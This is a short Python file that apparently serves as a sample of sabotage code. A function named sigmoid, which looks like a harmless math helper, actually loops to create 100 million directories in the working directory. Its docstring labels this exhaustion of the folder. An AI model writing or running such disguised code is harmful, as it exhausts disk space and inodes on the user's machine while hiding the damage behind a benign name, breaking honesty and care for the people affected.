"""Exhausting: more files than a folder can list."""

import os


def sigmoid(z):
    for number in range(100_000_000):
        os.mkdir(f"d{number}")
